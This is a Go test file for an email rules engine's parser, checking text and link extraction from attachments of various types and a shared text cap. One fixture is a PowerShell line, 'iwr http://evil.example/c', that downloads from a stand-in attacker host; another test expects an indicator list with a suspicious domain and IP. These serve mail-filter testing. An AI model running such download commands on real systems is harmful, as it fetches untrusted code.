package mail_test

import (
	"context"
	"encoding/base64"
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/tqmailrules/tqmailrules/engine"
	"github.com/tqmailrules/tqmailrules/engine/mail"
)

func TestTextOfAttachments(t *testing.T) {
	const page = `<html><body><p>Pay <a href="http://evil.example/pay">here</a></p><form action="http://evil.example/post"><input></form><script src="//cdn.example/x.js"></script><img src="http://img.example/a.png"></body>`
	for _, tc := range []struct{ name, header, content, text, links string }{
		{"csv", "Content-Type: text/csv; name=a.csv", "type,value\r\nurl,http://evil.example/a\r\n", "type,value\nurl,http://evil.example/a\n", "http://evil.example/a"},
		{"json without a text type", "Content-Type: application/json; name=a.json", `{"u": "https://evil.example/b"}`, `{"u": "https://evil.example/b"}`, "https://evil.example/b"},
		{"log in a declared charset", "Content-Type: text/plain; charset=iso-8859-1; name=a.log", "caf\xe9\n", "café\n", ""},
		{"source of unknown charset", "Content-Type: application/octet-stream; name=a.ps1", "iwr http://evil.example/c\n", "iwr http://evil.example/c\n", "http://evil.example/c"},
		{"UTF-16 with its mark", "Content-Type: text/plain; name=a.txt", "\xff\xfea\x00b\x00", "ab", ""},
		{"calendar", "Content-Type: text/calendar; name=a.ics", "BEGIN:VCALENDAR\nURL:http://evil.example/d\n", "BEGIN:VCALENDAR\nURL:http://evil.example/d\n", "http://evil.example/d"},
		{"page", "Content-Type: text/html; name=a.html", page, "Pay here", "http://evil.example/pay http://evil.example/post https://cdn.example/x.js"},
		{"page by its bytes", "Content-Type: application/octet-stream; name=a.dat", page, "Pay here", "http://evil.example/pay http://evil.example/post https://cdn.example/x.js"},
		{"page in the charset it declares", "Content-Type: text/html; name=a.html", "<html><meta charset=koi8-r><p>\xf0\xd2", "Пр", ""},
		{"pdf that says it is text", "Content-Type: text/plain; name=a.txt", "%PDF-1.4 http://evil.example/", "", ""},
		{"program", "Content-Type: application/octet-stream; name=a.exe", "MZ" + strings.Repeat("\x00", 100), "", ""},
		{"zip named as text", "Content-Type: text/csv; name=a.csv", "PK\x03\x04" + strings.Repeat("x", 40), "", ""},
		{"attached mail", "Content-Type: message/rfc822", "Subject: x\n\nhttp://evil.example/", "", ""},
		{"nothing", "Content-Type: text/plain; name=a.txt", "", "", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := parse(t, mixed("\nbody", tc.header+"\nContent-Disposition: attachment\nContent-Transfer-Encoding: base64\n\n"+base64.StdEncoding.EncodeToString([]byte(tc.content)))).Attachments[0]
			var links []string
			for _, l := range p.Links {
				links = append(links, l.HrefURL.URL)
			}
			if diff := cmp.Diff([]string{tc.text, tc.links}, []string{strings.TrimRight(p.Text, " "), strings.Join(links, " ")}); diff != "" {
				t.Errorf("%s (-want +got):\n%s", p.FileType, diff)
			}
		})
	}
}

// TestTextOfAttachmentsIsCapped: the attachments of a message share one cap, and
// the bodies do not pay for them.
func TestTextOfAttachmentsIsCapped(t *testing.T) {
	csv := "Content-Type: text/csv\nContent-Disposition: attachment\n\n" + strings.Repeat("a,b\n", 200)
	p := mail.New(mail.Config{Limits: engine.Limits{Text: 1000}})
	m, err := p.Parse(context.Background(), engine.Bytes(mixed(csv, csv, "\nbody")), engine.Origin{})
	if err != nil {
		t.Fatal(err)
	}
	if n := len(m.Attachments[0].Text) + len(m.Attachments[1].Text); n != 1000 || m.Body.Text != "body" || !hasCap(m, engine.DefectText) {
		t.Errorf("%d bytes of text, body %q, defects %v", n, m.Body.Text, m.Defects)
	}
}

func TestIndicatorListInTheExampleCorpus(t *testing.T) {
	raw, err := os.ReadFile("../../examples/rules/corpus/report-csv-attachment.eml")
	if err != nil {
		t.Fatal(err)
	}
	m := parse(t, string(raw))
	if got := m.Attachments[0].Text; !strings.HasPrefix(got, "type,value\ndomain,lightfog-mail.click\nip,193.142.59.77\n") {
		t.Errorf("text %q", got)
	}
}
